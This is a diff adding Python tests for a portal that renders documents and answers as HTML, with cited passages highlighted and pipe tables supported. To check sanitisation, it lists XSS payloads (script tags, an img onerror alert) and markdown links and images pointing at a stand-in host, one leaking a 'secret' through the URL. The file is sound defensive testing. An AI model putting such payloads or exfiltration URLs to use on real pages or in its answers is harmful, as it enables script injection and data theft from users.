@@ -1,0 +1,72 @@
+"""Text of documents and models as HTML: marked where it is cited, and harmless."""
+
+import pytest
+
+from kb.portal.passages import Span, render
+from kb.portal.render import render_answer
+
+TABLE = "| Model | Litres |\n| --- | --- |\n| CB-150 | 68 |"
+
+
+def marked(text: str, quote: str, *headings: str) -> str:
+    start = text.index(quote)
+    return str(render(text, headings, Span(start, start + len(quote))))
+
+
+def test_blank_lines_part_paragraphs_and_known_headings_stand_out() -> None:
+    assert (
+        render("Limits\n\nOne.\n\nTwo.", ("Limits",), Span()) == "<h3>Limits</h3>\n<p>One.</p>\n<p>Two.</p>"
+    )
+
+
+def test_a_quote_over_two_paragraphs_is_marked_in_both() -> None:
+    assert (
+        marked("One two.\n\nThree four.", "two.\n\nThree")
+        == "<p>One <mark>two.</mark></p>\n<p><mark>Three</mark> four.</p>"
+    )
+
+
+def test_a_table_of_pipes_becomes_a_table_with_the_cited_row_marked() -> None:
+    html = marked(TABLE, "| CB-150 | 68 |")
+    assert '<th scope="col">Model</th>' in html
+    assert "<td><mark> CB-150 </mark></td><td><mark> 68 </mark></td>" in html
+
+
+def test_a_cell_may_hold_a_pipe() -> None:
+    html = str(render("| a |\n| --- |\n| x \\| y |", (), Span()))
+    assert "<td>x | y</td>" in html
+
+
+def test_lines_with_pipes_that_are_no_table_stay_text() -> None:
+    assert render("a | b\nc | d", (), Span()) == "<p>a | b\nc | d</p>"
+
+
+HOSTILE = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "| <b>x</b> |\n| --- |\n| <i>y</i> |"]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_html_in_a_document_is_shown_as_text(text: str) -> None:
+    html = str(render(text, (text,), Span(0, len(text))))
+    assert not any(tag in html for tag in ("<script", "<img", "<b>", "<i>"))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/?q=secret)",
+        "[click](https://evil.example)",
+        "<https://evil.example>",
+        "[a][b]\n\n[b]: https://evil.example",
+        "<a href='https://evil.example'>x</a>",
+        "<img src='https://evil.example'>",
+    ],
+)
+def test_an_answer_has_no_link_image_or_html_of_its_own(text: str) -> None:
+    html = render_answer(text, {})
+    assert not any(tag in html for tag in ("<a", "<img", "<script"))
+
+
+def test_a_marker_becomes_a_link_to_its_source_and_an_unknown_one_goes() -> None:
+    html = render_answer("**Second** class. [1] First class. [7]", {1: "/documents/x/?citation=3"})
+    assert html.startswith('<p><strong>Second</strong> class.<a class="cite" href="/documents/x/?citation=3"')
+    assert html.endswith("1</a> First class.</p>\n")
